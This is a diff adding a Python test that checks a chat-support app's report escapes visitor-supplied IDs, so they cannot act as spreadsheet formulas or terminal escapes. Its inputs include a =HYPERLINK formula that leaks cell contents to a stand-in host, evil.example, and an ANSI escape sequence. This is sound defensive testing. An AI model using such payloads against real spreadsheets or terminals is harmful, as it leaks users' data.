@@ -204,6 +204,32 @@ async def test_report_prints_each_chats_figures_for_a_spreadsheet(
     assert rows[0]["first_responder"] == "U0AGENT01" and rows[0]["to_end_s"] == "4200"
 
 
+async def test_report_writes_what_a_visitor_chose_as_text_never_a_formula_or_an_escape(
+    settings, slack, membrane, clock, capsys, monkeypatch
+):
+    app = await RunningApp(settings, clock).start()
+    evil = '=HYPERLINK("https://evil.example/?leak="&A2&B2,"Open")'
+    try:
+        for client_id in (evil, "\x1b]0;owned\x07@agent", "+1 555", "-2", "\tfoo"):
+            hello = [visitor_says("", "hi")]
+            await app.webhook(chat_event("chatStarted", client_id, hello, name="Eve"))
+        await app.settled()
+    finally:
+        await app.close()
+    monkeypatch.setattr("time.time", lambda: FRIDAY_8AM + 3600)
+    url = app.settings.database_url
+    where = url.get_secret_value() if url else app.settings.database_path
+    for form in (["--csv"], []):
+        assert await asyncio.to_thread(main, ["report", "--database", where, *form]) == 0
+        out = capsys.readouterr().out
+        assert "\x1b" not in out and "\x07" not in out
+        if form:
+            cells = [row["client_id"] for row in csv.DictReader(io.StringIO(out))]
+            assert sorted(cells) == sorted(["'" + evil, "]0;owned@agent", "'+1 555", "'-2", "'foo"])
+        else:
+            assert "'=HYPERLINK(" in out
+
+
 def test_the_digest_compares_each_figure_with_the_week_before():
     def chat(n: int, answered_after: float | None) -> ChatFigures:
         at = FRIDAY_8AM + n * 60
